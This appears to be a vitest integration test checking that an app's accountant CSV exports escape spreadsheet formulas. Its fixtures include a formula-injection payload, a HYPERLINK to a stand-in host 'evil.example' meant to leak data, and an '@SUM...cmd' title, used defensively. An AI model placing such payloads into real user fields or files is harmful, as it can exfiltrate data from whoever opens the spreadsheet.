import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { localDateOf } from '@lieu/core/booking';
import { Browser, DEMO, hosts } from '../support/http';
import { createTestEnv, testNow, type TestEnv } from '../support/env';

/**
 * A member named like a spreadsheet formula, a consignor of that name and a product titled like one:
 * every accountant's export (payments, shop sales, the consignor's statement) opens them as text,
 * never as a formula, in both CSV formats.
 */
let env: TestEnv;
let op: Browser;
let yanis: string;
const FORMULA_NAME = '=HYPERLINK("https://evil.example/?leak","Yanis")';
const FORMULA_TITLE = '@SUM(1+1)*cmd';
const json = async (res: Response) => (await res.json()) as any;

beforeAll(async () => {
  env = await createTestEnv();
  op = await new Browser(env.url, hosts.machinerie).login(DEMO.machinerie.operator, DEMO.password);
  const member = await new Browser(env.url, hosts.machinerie).login(DEMO.machinerie.member2, DEMO.password);
  const renamed = await member.fetch('/api/v1/me', { method: 'PATCH', json: { name: FORMULA_NAME } });
  expect(renamed.status).toBe(200);
  yanis = (await json(renamed)).id;
  const today = localDateOf(testNow().getTime(), 'Europe/Paris');
  const consignor = await op.fetch('/api/v1/shop/consignors', { method: 'POST', json: { memberId: yanis, startDate: today, payout: { method: 'cash' } } });
  expect(consignor.status).toBe(201);
  const product = await json(await op.fetch('/api/v1/shop/manage/products', {
    method: 'POST', json: { title: FORMULA_TITLE, priceCents: 1250, vatRateBp: 2000, category: 'Test', consignorId: yanis, published: true },
  }));
  expect((await op.fetch(`/api/v1/shop/consignors/${yanis}/deposits`, { method: 'POST', json: { productId: product.id, quantity: 3 } })).status).toBe(201);
  const sale = await op.fetch('/api/v1/shop/till', { method: 'POST', json: { lines: [{ productId: product.id, quantity: 1 }], method: 'cash', buyerId: yanis } });
  expect(sale.status).toBe(201);
});
afterAll(async () => { await env?.close(); });

/** No cell of the file starts with a formula character (a quoted cell's content included). */
function expectNoFormula(text: string, sep: string) {
  const starts = new RegExp(`(^|[${sep}\\r\\n\\uFEFF])"?[=+@]`);
  expect(text).not.toMatch(starts);
}

const today = () => localDateOf(testNow().getTime(), 'Europe/Paris');

describe('CSV exports never carry a formula', () => {
  for (const format of ['fr', 'intl'] as const) {
    const sep = format === 'fr' ? ';' : ',';
    it(`payments CSV (${format}): the member's formula name is text`, async () => {
      const text = await (await op.fetch(`/api/v1/billing/reports/payments.csv?format=${format}`)).text();
      expect(text).toContain("'=HYPERLINK(");
      expectNoFormula(text, sep);
    });
    it(`shop sales CSV (${format}): the buyer, the consignor and the product title are text`, async () => {
      const text = await (await op.fetch(`/api/v1/reports/sales.csv?from=${today()}&to=${today()}&format=${format}`)).text();
      expect(text).toContain("'=HYPERLINK(");
      expect(text).toContain(`'${FORMULA_TITLE}`);
      expectNoFormula(text, sep);
    });
    it(`consignor statement CSV (${format}): the consignor's name and the product title are text`, async () => {
      const text = await (await op.fetch(`/api/v1/shop/consignors/${yanis}/statements/${today().slice(0, 7)}/csv?format=${format}`)).text();
      expect(text).toContain("'=HYPERLINK(");
      expect(text).toContain(`'${FORMULA_TITLE}`);
      expectNoFormula(text, sep);
    });
  }
  it('negative amounts stay numbers', async () => {
    const { csvWriter } = await import('@lieu/core');
    expect(csvWriter('fr').write([['-8,35', '-1', '-x', '+1']])).toBe("\uFEFF-8,35;-1;'-x;'+1\r\n");
  });
});
